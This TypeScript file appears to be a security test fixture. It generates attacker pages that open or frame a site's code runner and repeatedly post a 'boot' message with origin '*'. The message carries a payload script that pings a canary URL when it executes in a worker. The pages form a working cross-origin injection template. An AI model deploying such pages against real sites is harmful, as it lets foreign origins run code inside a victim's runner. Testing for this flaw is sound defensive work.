/** What the attacker boots the runner with: a script that would be the runtime. */
const payload = (canaryUrl: string) => `
  fetch('${canaryUrl}/ran-in-worker').catch(() => {});
  onmessage = ({ ports: [port] }) => port?.postMessage({ type: 'ready' });`;

/** Boots whatever runner a window or a frame shows, again and again, and tells the attacker's server of an answer. */
const bootScript = (canaryUrl: string) => `
  const boot = (target) => {
    const { port1, port2 } = new MessageChannel();
    port1.onmessage = () => fetch('/booted');
    target.postMessage({ type: 'boot', script: ${JSON.stringify(payload(canaryUrl))}, assets: {} }, '*', [port2]);
    port1.postMessage({ type: 'spawn', worker: 1 });
  };`;

/** A page of the attacker's that opens the site's runner in a window. */
export const openerPage = (
  runnerUrl: string,
  canaryUrl: string,
): string => `<!doctype html><script>${bootScript(canaryUrl)}
  const opened = open('${runnerUrl}');
  setInterval(() => boot(opened), 100);
</script>`;

/** A page of the attacker's that frames the site's runner. */
export const framerPage = (runnerUrl: string, canaryUrl: string): string => `<!doctype html>
<iframe src="${runnerUrl}" sandbox="allow-scripts"></iframe><script>${bootScript(canaryUrl)}
  setInterval(() => boot(frames[0]), 100);
</script>`;
